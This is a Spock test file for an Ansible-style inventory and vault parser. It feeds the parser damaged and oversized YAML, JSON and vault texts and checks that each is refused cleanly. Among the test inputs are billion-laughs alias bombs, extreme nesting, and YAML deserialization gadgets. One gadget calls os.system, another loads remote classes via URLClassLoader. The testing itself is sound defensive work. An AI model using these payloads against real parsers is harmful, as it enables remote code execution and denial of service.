package dev.steward.runner.inventory

import dev.steward.house.Row
import dev.steward.house.Tries
import dev.steward.runner.inventory.yaml.ExtraVars
import dev.steward.runner.secret.AnsibleVault
import dev.steward.runner.secret.Secret
import dev.steward.runner.secret.VaultEnvelope
import java.nio.file.Files
import java.nio.file.Path
import spock.lang.Specification
import spock.lang.TempDir

/** Inventories, variables and vault texts that were damaged, or made to be too much: read or refused, soon and in words. */
class HostileYamlSpec extends Specification {

    private static final List<String> PIECES = ['&a ', '*a', '<<: ', '<<: *a', '!!python/object/apply:os.system ["id"]', '!!java.net.URL ["x"]', '!vault |', '!unsafe ', '!!binary ', '!!set ', '!!omap ', '!<tag:x> ', '? ', ': ', '- ', '---\n', '...\n', '%YAML 9.9\n', '\t', '  ', '\n',
                                                '{', '}', '[', ']', ',', '#', '"', "'", '|', '>', '|9', '"\\x00"', '\u0000', '\u0085', '\u2028', '\u202e', '\ufeff', '~', 'null: ', '1: ', 'true: ', '1e3: ', '2026-01-01: ', '? [a, b]\n: c', 'hosts:', 'children:', 'vars:', 'all:', 'web[1:99999999]:', 'web[01:9]:', 'plugin: ', '@x', '`x', '.inf', '0o17', '1:2:3', '9' * 500, 'ansible_host: ']
    private static final String BASE = '''\
        all:
          vars: &shared {ansible_user: root, ntp: [a, b], deep: {x: {y: 1}}}
          children:
            web:
              hosts:
                web[01:03].example.com: {http_port: 80, note: "a: b"}
                db1:
                  <<: *shared
                  ansible_host: 192.0.2.7
              vars:
                text: |
                  two
                  lines
            db: {hosts: {db1: }}
            both: {children: {web: , db: }}
        '''.stripIndent()

    @TempDir Path dir

    @Row('S-09')
    def 'a damaged inventory is read or refused, each problem at a place'() {
        given:
        int refused = 0

        when:
        Tries.of(1200) { Random random ->
            String text = Tries.damaged(BASE, random, PIECES)
            refused += inventory('hosts.yml', text) == null ? 1 : 0
        }

        then:
        System.getProperty('steward.seed') || refused > 200
    }

    @Row('S-09')
    def 'damaged variables of a group, of JSON and of -e are read or refused'() {
        expect:
        Tries.of(600) { Random random ->
            String json = Tries.damaged('{"all": {"hosts": {"a": {"x": 1.5, "y": [true, null]}}, "vars": {"z": {"__ansible_unsafe": "q"}}}}', random, PIECES)
            inventory('hosts.json', json)
            Files.createDirectories(dir.resolve('group_vars'))
            Files.writeString(dir.resolve('group_vars/all.yml'), Tries.damaged('a: 1\nb: {c: [1, 2]}\nd: !unsafe "{{ x }}"\n', random, PIECES))
            inventory('hosts.yml', 'all: {hosts: {web1: }}')?.with { read -> ask { read.host('web1').get().vars() } }
            Files.delete(dir.resolve('group_vars/all.yml'))
            ask { new ExtraVars(AnsibleVault.of([])).read([Tries.damaged(['{a: 1, b: [x]}', 'a=1 b="c d"', '[1]', '@file'][random.nextInt(4)], random, PIECES)]) }
        }
    }

    @Row('S-09')
    def 'what is made to be too much is refused within seconds and memory: #what'() {
        expect:
        Tries.within(what) { inventory(file, text.call()) } == null

        where:
        what                        | file         | text
        'a billion laughs'          | 'hosts.yml'  | { laughs('["lol"]') }
        'laughs of mappings'        | 'hosts.yml'  | { "all: {vars: {a0: &a0 {x: 1}, ${(1..24).collect { "a$it: &a$it {${(0..9).collect { n -> "k$n: *a${it - 1}" }.join(', ')}}" }.join(', ')}}}" }
        'laughs of merges'          | 'hosts.yml'  | { 'all:\n  vars:\n    a0: &a0 {x: 1}\n' + (1..60).collect { "    a$it: &a$it {<<: [${"*a${it - 1}, " * 9}*a${it - 1}], k$it: 1}\n" }.join('') + '    z: {a: }\n  hosts: [x]\n' }
        'an alias to itself'        | 'hosts.yml'  | { 'all: &a {vars: *a}' }
        'a merge of itself'         | 'hosts.yml'  | { 'all: &a {<<: *a}' }
        'deep lists'                | 'hosts.yml'  | { 'all: {vars: {a: ' + '[' * 100_000 }
        'deep mappings'             | 'hosts.yml'  | { 'all: {vars: ' + '{a: ' * 50_000 + '}' * 50_000 + '}}' }
        'deep blocks'               | 'hosts.yml'  | { (0..3_000).collect { ' ' * it + 'a:' }.join('\n') }
        'deep dashes'               | 'hosts.yml'  | { '- ' * 50_000 + 'a' }
        'deep question marks'       | 'hosts.yml'  | { '? ' * 50_000 + 'a' }
        'deep JSON'                 | 'hosts.json' | { '[' * 100_000 + ']' * 100_000 }
        'deep JSON objects'         | 'hosts.json' | { '{"a":' * 100_000 + '1' + '}' * 100_000 }
        'a range of all numbers'    | 'hosts.yml'  | { 'all: {hosts: {"web[0:2147483647]": }}' }
        'ranges that multiply'      | 'hosts.yml'  | { 'all: {hosts: {"w[0:999]-[0:999]-[0:999]": }}' }
        'ranges of one that nest'   | 'hosts.yml'  | { 'all: {hosts: {"' + 'w[1:1]' * 5_000 + 'w[": }}' }
        'a width of digits'         | 'hosts.yml'  | { 'all: {hosts: {"w[' + '0' * 2_000 + ':' + '9' * 2_000 + ']": }}' }
        'tabs that are mended'      | 'hosts.yml'  | { 'all: {hosts: {' + 'a:\t1,\n\t' * 3_000 + 'x' }
        'question marks mended'     | 'hosts.yml'  | { 'all: {vars: {' + 'a: b?c, ' * 2_000 + '[' }
        'slashes mended'            | 'hosts.yml'  | { 'all: {vars: {a: "' + '\\/' * 2_000 + '\\q"}}' }
        'a tag that makes a class'  | 'hosts.yml'  | { 'all: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://192.0.2.1/"]]]]' }
        'a tag of Python'           | 'hosts.yml'  | { 'all: {vars: {a: !!python/object/apply:os.system ["id"]}}' }
        'groups in a circle'        | 'hosts.yml'  | { 'a: {children: {b: }}\nb: {children: {c: }}\nc: {children: {a: }}' }
        'two documents'             | 'hosts.yml'  | { 'all: {hosts: {a: }}\n---\nall: {hosts: {b: }}' }
        'no text'                   | 'hosts.yml'  | { '' }
    }

    @Row('S-09')
    def 'a duplicate key is said, and the last counts, as everywhere; in JSON too: #file'() {
        when:
        def inventory = inventory(file, text)

        then:
        inventory.host('a').get().vars().x == 2
        file.endsWith('.json') || inventory.warnings()*.message().any { it.contains("the key 'x' stands here twice") }

        where:
        file         | text
        'hosts.yml'  | 'all: {hosts: {a: {x: 1, x: 2}}}'
        'hosts.json' | '{"all": {"hosts": {"a": {"x": 1, "x": 2}}}}'
    }

    @Row('S-09')
    def 'a damaged vault text is opened to what it was, or refused'() {
        given:
        def vault = new AnsibleVault([new Secret('right')])
        String whole = VaultEnvelope.close('the content'.bytes, new Secret('right'), Optional.of('prod'))
        int refused = 0

        when:
        Tries.of(150) { Random random ->
            String text = Tries.damaged(whole, random, ['0', 'f', '\n', ';', '$', '1.3', 'AES256', '\u0000', 'zz', '0a', '9' * 100])
            try {
                String opened = vault.open(text).reveal()
                assert opened == 'the content'
            } catch (AnsibleVault.VaultException e) {
                assert e.message && !e.message.contains('right')
                refused++
            }
        }

        then:
        System.getProperty('steward.seed') || refused > 50
    }

    @Row('S-09')
    def 'a vault text that is made to be too much is refused: #what'() {
        when:
        Tries.within(what) { new AnsibleVault([new Secret('right')]).open(text.call()) }

        then:
        def e = thrown(AssertionError)
        e.cause instanceof AnsibleVault.VaultException

        where:
        what               | text
        'no body'          | { '$ANSIBLE_VAULT;1.1;AES256' }
        'an empty body'    | { '$ANSIBLE_VAULT;1.1;AES256\n\n\n' }
        'a body of 20 MB'  | { '$ANSIBLE_VAULT;1.1;AES256\n' + '30' * 10_000_000 }
        'only line ends'   | { '$ANSIBLE_VAULT;1.1;AES256\n' + '0a' * 100_000 }
        'a long header'    | { '$ANSIBLE_VAULT;' + '1.2;' * 1_000_000 }
        'half of a digit'  | { '$ANSIBLE_VAULT;1.1;AES256\n333' }
    }

    private static String laughs(String first) {
        "all: {vars: {a0: &a0 $first, ${(1..24).collect { "a$it: &a$it [${(["*a${it - 1}"] * 10).join(', ')}]" }.join(', ')}}}"
    }

    /** Null where it was refused. */
    private Inventory inventory(String file, String text) {
        Path at = dir.resolve(file)
        Files.write(at, text.getBytes('UTF-8'))
        ask { Corpus.loader('right').load([at.toString()], Optional.<Path> empty()) }
    }

    private static <T> T ask(Closure<T> asked) {
        try {
            return asked()
        } catch (InventoryException e) {
            assert e.problems() && e.problems().every { it.message() && it.at().line() >= 1 && !(it.message() =~ /Exception|\bat (java|org|dev)\./) }: e.problems()
            return null
        }
    }
}
